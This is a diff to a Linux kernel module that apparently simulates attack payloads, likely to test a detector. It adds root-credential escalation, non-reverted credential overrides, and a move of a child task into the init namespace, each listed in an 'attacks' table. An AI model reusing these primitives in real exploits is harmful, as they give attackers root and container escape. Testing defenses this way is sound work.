@@ -32,6 +32,9 @@
 #include <linux/module.h>
 #include <linux/moduleparam.h>
 #include <linux/mutex.h>
+#include <linux/nsproxy.h>
+#include <linux/pid.h>
+#include <linux/rculist.h>
 #include <linux/rcupdate.h>
 #include <linux/reboot.h>
 #include <linux/sched.h>
@@ -226,13 +229,76 @@ static int commit_kernel(struct task_struct *task, size_t field)
 	return cred ? commit_creds(cred) : -ENOMEM;
 }
 
+/* What a module would do that was never meant to change ids */
+static int commit_own(struct task_struct *task, size_t field)
+{
+	struct cred *const cred = prepare_creds();
+
+	if (!cred)
+		return -ENOMEM;
+	cred->uid = GLOBAL_ROOT_UID;
+	cred->euid = GLOBAL_ROOT_UID;
+	cred->suid = GLOBAL_ROOT_UID;
+	cred->fsuid = GLOBAL_ROOT_UID;
+	cred->cap_effective = CAP_FULL_SET;
+	cred->cap_permitted = CAP_FULL_SET;
+	return commit_creds(cred);
+}
+
+/* Nothing will revert, so nothing else puts the credential of before */
+static int override_with(const struct cred *cred)
+{
+	if (!cred)
+		return -ENOMEM;
+	put_cred(override_creds(cred));
+	put_cred(cred);
+	return 0;
+}
+
 static int override_init(struct task_struct *task, size_t field)
 {
-	const struct cred *const init = get_task_cred(&init_task);
+	return override_with(get_task_cred(&init_task));
+}
 
-	/* Nothing will revert, so nothing else puts the credential of before */
-	put_cred(override_creds(init));
-	put_cred(init);
+static int override_kernel(struct task_struct *task, size_t field)
+{
+	return override_with(prepare_kernel_cred(&init_task));
+}
+
+/* === Namespaces ========================================================= */
+
+/* Nothing of it is exported: its user knows where it is */
+static ulong switch_task_namespaces_at;
+module_param_named(switch_task_namespaces, switch_task_namespaces_at, ulong,
+		   0400);
+MODULE_PARM_DESC(switch_task_namespaces, "Address of that function");
+
+static ulong init_nsproxy_at;
+module_param_named(init_nsproxy, init_nsproxy_at, ulong, 0400);
+MODULE_PARM_DESC(init_nsproxy, "Address of that object");
+
+static int switch_child(struct task_struct *task, size_t field)
+{
+	void (*const switch_namespaces)(struct task_struct *, struct nsproxy *) =
+		(void *)switch_task_namespaces_at;
+	struct nsproxy *const init = (void *)init_nsproxy_at;
+	struct task_struct *child;
+	struct pid *pid = NULL;
+
+	if (!switch_task_namespaces_at || !init_nsproxy_at)
+		return -ENOENT;
+
+	rcu_read_lock();
+	list_for_each_entry_rcu(child, &task->children, sibling)
+		pid = task_pid(child);
+	child = get_pid_task(pid, PIDTYPE_PID);
+	rcu_read_unlock();
+	if (!child)
+		return -ESRCH;
+
+	get_nsproxy(init);
+	switch_namespaces(child, init);
+	put_task_struct(child);
 	return 0;
 }
 
@@ -387,8 +453,14 @@ static const struct attack attacks[] = {
 	ATTACK("commit-init", commit_init, "commit_creds(&init_cred)"),
 	ATTACK("commit-kernel", commit_kernel,
 	       "commit_creds(prepare_kernel_cred(&init_task))"),
+	ATTACK("commit-own", commit_own,
+	       "commit_creds() of an own copy, uid 0, all capabilities"),
 	ATTACK("override-init", override_init,
 	       "override_creds(&init_cred), not reverted"),
+	ATTACK("override-kernel", override_kernel,
+	       "override_creds(prepare_kernel_cred(&init_task)), not reverted"),
+	ATTACK("child-nsproxy", switch_child,
+	       "switch_task_namespaces() of the last child to init_nsproxy"),
 	{
 		.name = "parent-fsuid",
 		.what = "the fsuid of the parent becomes 0",
